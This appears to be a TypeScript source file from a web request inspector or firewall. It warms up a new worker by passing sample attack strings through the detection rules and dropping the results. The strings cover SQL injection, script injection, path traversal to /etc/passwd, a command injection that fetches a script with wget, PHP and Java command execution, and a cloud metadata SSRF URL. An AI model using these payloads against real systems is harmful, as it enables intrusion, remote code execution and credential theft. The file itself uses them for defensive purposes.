// Has a new worker judge and describe a few attacks of its own, so that the first real one finds code compiled and tables built:
// alone it would take 5 to 14 ms, and a request has 10. What comes out is dropped.
import { makeRecord, type RequestParts } from '../batch/make-record.js'
import type { BuiltInspector } from './build-inspector.js'
import type { EventWriter } from './event-writer.js'

/** One for each large family of rules that text can meet; the ruleset may have others. */
const attacks: readonly string[] = [
  "1' or '1'='1' -- ",
  '<script>alert(1)</script>',
  '../../../../etc/passwd',
  '$(wget http://203.0.113.1/x.sh)',
  "<?php system('id'); ?>",
  '%{(#a=@java.lang.Runtime@getRuntime())}',
  'http://169.254.169.254/latest/meta-data/',
  '$globals',
]
const headers: NonNullable<RequestParts['headers']> = [
  ['host', 'warm-up.invalid'],
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101'],
  ['accept', 'text/html,application/json;q=0.9'],
  ['cookie', 'session=0123456789abcdef'],
]
const rounds = 4
const limitMs = 60

/** Takes up to 60 ms. @param now - monotonic, in ms. */
export function warmUpJudging({ inspector, prefilter }: BuiltInspector, writer: EventWriter, now: () => number): void {
  const deadlineMs = now() + limitMs
  prefilter?.withoutBounds(() => {
    for (let round = 0; round < rounds; round++) {
      for (const attack of attacks) {
        if (now() > deadlineMs) return
        const record = makeRecord({ target: `/search/${round}?q=${encodeURIComponent(attack)}&page=1`, headers })
        writer.write(record, inspector.inspect(record), 0, 0)
      }
    }
  })
}
